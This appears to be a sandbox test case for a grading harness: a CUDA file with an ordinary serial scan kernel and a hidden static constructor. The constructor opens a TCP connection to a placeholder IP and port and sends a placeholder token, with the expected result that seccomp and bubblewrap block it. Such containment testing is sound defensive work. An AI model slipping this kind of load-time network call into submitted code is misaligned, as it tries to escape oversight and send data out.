// ATTACK socket_connect: a static constructor opens a TCP connection to @@IP@@ port @@PORT@@ (the
// test's own server on 127.0.0.1, or an address outside this machine), at most 3 s, and sends
// @@TOKEN@@; when connected it also says so on stderr and exits with a status (the grader quotes
// the tail of a module's stderr). Expected: the seccomp filter kills the process at socket() (and
// bubblewrap gives it no network): the server sees no connection; "connected" nowhere in the result.

extern "C" int socket(int, int, int);
extern "C" int connect(int, const void*, unsigned int);
extern "C" int setsockopt(int, int, int, const void*, unsigned int);
extern "C" long write(int, const void*, unsigned long);
extern "C" int close(int);
extern "C" void _exit(int);

__attribute__((constructor)) static void sg_attack(void)
{
    int fd = socket(2 /* AF_INET */, 1 /* SOCK_STREAM */, 0);
    if (fd < 0)
        return;
    long timeout[2] = {3, 0};  // struct timeval: connect gives up after 3 s
    setsockopt(fd, 1 /* SOL_SOCKET */, 21 /* SO_SNDTIMEO */, timeout, sizeof timeout);
    unsigned char ip[4] = {@@IP@@};
    unsigned port = @@PORT@@;
    unsigned char addr[16] = {2, 0, (unsigned char)(port >> 8), (unsigned char)port, ip[0], ip[1], ip[2], ip[3]};
    if (connect(fd, addr, sizeof addr) == 0) {
        write(fd, "@@TOKEN@@\n", sizeof "@@TOKEN@@\n" - 1);
        close(fd);
        fputs("@@TOKEN@@ connected\n", stderr);
        fflush(stderr);
        _exit(3);
    }
    close(fd);
}

__global__ void naive_scan(const scan_t* in, scan_t* out, int n)
{
    if (threadIdx.x == 0) {  // correct, if slow: one thread scans serially
        scan_t sum = 0;
        for (int i = 0; i < n; ++i) {
            sum += in[i];
            out[i] = sum;
        }
    }
}
